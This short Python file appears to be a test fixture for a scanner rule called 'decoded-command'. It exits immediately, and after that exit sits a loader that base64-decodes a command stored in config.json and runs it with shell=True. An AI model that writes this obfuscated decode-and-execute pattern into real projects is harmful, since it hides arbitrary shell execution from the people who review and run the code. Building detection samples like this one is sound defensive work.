raise SystemExit('a fixture')
# held by decoded-command
import json, base64, os, subprocess
_c = json.load(open(os.path.join(os.path.dirname(__file__), "config.json")))
subprocess.run(base64.b64decode(_c["init"]).decode(), shell=True)
